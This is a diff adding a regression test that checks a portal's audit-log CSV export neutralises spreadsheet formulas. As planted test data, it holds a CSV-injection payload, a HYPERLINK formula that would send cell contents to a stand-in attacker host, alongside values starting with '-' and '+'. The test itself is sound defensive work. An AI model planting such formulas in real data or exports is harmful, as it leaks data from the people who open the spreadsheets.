@@ -11,7 +11,7 @@ import time
 import pytest
 from sqlalchemy import select
 
-from portal.audit import AuditEvent
+from portal.audit import AuditEvent, audit
 from portal.extensions import db
 from portal.settings import SETTINGS, get_setting
 
@@ -116,6 +116,22 @@ def test_audit_export_is_csv_of_the_search_and_is_itself_audited(app, login_as, 
     assert all(row[3].startswith("sign_in") for row in rows[1:]) and len(rows) > 1
     with app.app_context():
         assert db.session.scalar(select(AuditEvent).where(AuditEvent.action == "audit_exported"))
+
+
+def test_audit_export_neutralises_formulas_in_every_column(app, login_as, client):
+    # Found by an attack session: a name like this, typed by whoever invited the person, reached
+    # the admin's spreadsheet as a live formula through the "who" column.
+    login_as("admin")
+    planted = make_user(
+        name='=HYPERLINK("http://evil.example/?"&A1,"Open")', email="-x@example.org"
+    )
+    with app.app_context():
+        audit("password_changed", planted, actor_id=planted.id, client_ref="+CR1")
+        db.session.commit()
+    rows = list(csv.reader(io.StringIO(client.get("/admin/audit.csv").get_data(as_text=True))))
+    mine = [row for row in rows if row[2] == "'-x@example.org"]
+    assert mine and mine[0][1].startswith("'=HYPERLINK") and mine[0][6] == "'+CR1"
+    assert not [cell for row in rows for cell in row if cell[:1] in ("=", "+", "-", "@", "\t")]
 
 
 # --- backups -----------------------------------------------------------------------------------
